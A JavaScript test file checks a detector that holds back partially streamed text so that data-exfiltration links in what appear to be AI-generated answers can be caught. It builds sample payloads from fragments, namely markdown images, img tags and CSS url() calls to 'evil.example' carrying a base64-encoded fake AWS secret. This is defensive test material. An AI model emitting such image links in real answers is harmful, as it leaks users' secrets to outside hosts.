import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { exfilStreamHoldBack, exfiltrationDetector, scanExfiltration } from './exfiltration.js';

const PIECES = [
  'Here is your answer. ', 'See ', '![status](', '![a][1]', '\n\n[1]: ', '<img src="', '<div style="background:url(', '[docs](',
  'https://evil.example/p?d=', 'QVdTX1NFQ1JFVD1hYmNkZWYxMjM0NTY3ODkw', 'https://docs.example.com/img/a.png', ')', '">', ' ', '\n', 'text', '>', ']', '"',
];

test('streamHoldBack covers every match that is not complete yet (the stream guard invariant)', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }), (parts) => {
      const text = parts.join('');
      const matches = scanExfiltration(text);
      for (let cut = 0; cut <= text.length; cut++) {
        const prefix = text.slice(0, cut);
        const hold = exfilStreamHoldBack(prefix);
        assert.ok(hold >= 0 && hold <= exfiltrationDetector.maxMatchLength);
        for (const m of matches) {
          if (m.start < cut && m.end > cut) assert.ok(hold >= cut - m.start, `cut ${cut} splits a match at ${m.start}-${m.end} but hold is ${hold}: ${JSON.stringify(text)}`);
        }
      }
    }),
    { numRuns: 400 },
  );
});

test('clean prose holds back nothing but a start token still arriving', () => {
  assert.equal(exfilStreamHoldBack('A long answer about photosynthesis, with no links at all.'.repeat(20)), 0);
  assert.equal(exfilStreamHoldBack('background: ur'), 2);
  assert.equal(exfilStreamHoldBack('Look!'), 1);
  assert.equal(exfilStreamHoldBack('Refs:\n  '), 3);
  assert.ok(exfilStreamHoldBack('Look: ![x](https://evil.example/p?d=QVdTX1NF') > 30);
  assert.equal(exfilStreamHoldBack('Done: ![x](https://a.example/i.png) and more prose here, plenty of it.'), 0);
});
